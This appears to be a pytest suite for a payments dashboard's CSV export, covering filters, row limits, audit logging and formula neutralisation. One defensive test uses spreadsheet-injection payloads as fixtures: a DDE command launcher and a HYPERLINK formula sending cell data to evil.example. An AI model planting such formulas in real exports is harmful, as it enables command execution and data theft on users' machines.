"""The CSV export of a payment search: filtered, streamed, capped, formula-safe, audited."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from accounts.models import AuditEvent
from tests.dashboard.conftest import Shop, at

pytestmark = pytest.mark.django_db

URL = "/payments/export.csv"


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(body)))


def test_the_export_has_a_header_and_one_row_per_payment_newest_first(operator_client, shop):
    first = shop.pay(1_250, reference="inv-1", created_at=at(date(2024, 5, 1), 9))
    second = shop.pay(3, currency="JPY", reference="inv-2", created_at=at(date(2024, 5, 2), 9))

    response = operator_client.get(URL)
    rows = rows_of(response)

    header, *body = rows
    assert header[:7] == [
        "id",
        "created_at",
        "merchant",
        "debtor_account",
        "creditor_account",
        "amount",
        "currency",
    ]
    record = [dict(zip(header, row, strict=True)) for row in body]
    assert [r["id"] for r in record] == [str(second.pk), str(first.pk)]
    assert record[1]["amount"] == "12.50" and record[1]["currency"] == "EUR"
    assert record[0]["amount"] == "3" and record[0]["currency"] == "JPY"
    assert record[1]["created_at"] == "2024-05-01T09:00:00+00:00"
    assert record[1]["debtor_account"] == "Shop-EUR"
    assert record[1]["creditor_account"] == "Shop-PAYEE-EUR"
    assert record[1]["merchant"] == "Shop"
    assert record[1]["status"] == "completed"
    assert response["Content-Disposition"].startswith('attachment; filename="payments-')
    assert response["X-Export-Truncated"] == "false"


def test_the_export_applies_the_search_filters(operator_client, shop):
    shop.pay(100, status="failed", reference="a")
    shop.pay(200, status="completed", reference="b")
    shop.pay(300, currency="JPY", status="failed", reference="c")

    rows = rows_of(operator_client.get(f"{URL}?status=failed&currency=EUR"))

    assert [row[10] for row in rows[1:]] == ["a"]


def test_cells_that_would_run_as_formulas_are_neutralised(operator_client, db):
    shop = Shop("=cmd|' /C calc'!A0")
    shop.pay(100, reference='=HYPERLINK("http://evil.example/?x="&A1,"Click")')
    shop.pay(200, reference="@SUM(1+1)", end_to_end_id="+33612345678")

    rows = rows_of(operator_client.get(URL))

    header = rows[0]
    by_reference = {dict(zip(header, row, strict=True))["reference"]: row for row in rows[1:]}
    assert set(by_reference) == {
        '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "'@SUM(1+1)",
    }
    first = dict(zip(header, by_reference["'@SUM(1+1)"], strict=True))
    assert first["end_to_end_id"] == "'+33612345678"
    assert first["merchant"] == "'=cmd|' /C calc'!A0"
    assert first["amount"] == "2.00"  # a plain decimal string: left as it is


def test_the_export_stops_at_the_configured_row_limit(operator_client, shop, settings):
    settings.PAYMENTS_EXPORT_MAX_ROWS = 2
    for n in range(3):
        shop.pay(100 + n, created_at=at(date(2024, 5, 1 + n)))

    response = operator_client.get(URL)

    rows = rows_of(response)
    assert [row[5] for row in rows[1:]] == ["1.02", "1.01"]
    assert response["X-Export-Truncated"] == "true"
    assert response["X-Export-Max-Rows"] == "2"


def test_an_export_with_bad_filters_answers_400_with_the_reasons(operator_client, shop):
    response = operator_client.get(f"{URL}?id=nope&created_from=2024-05-02&created_to=2024-05-01")

    assert response.status_code == 400
    text = response.content.decode()
    assert "Payment id: A payment id is a UUID" in text
    assert "Created to: “Created to” is before “Created from”" in text


def test_each_export_is_in_the_audit_log(operator_client, operator_user, shop):
    shop.pay(100)

    rows_of(operator_client.get(f"{URL}?status=completed&cursor=abc"))

    event = AuditEvent.objects.get(action="payments.export")
    assert event.actor == operator_user
    assert event.detail["filters"] == {"status": "completed"}
    assert event.detail["truncated"] is False
    assert event.ip == "127.0.0.1"
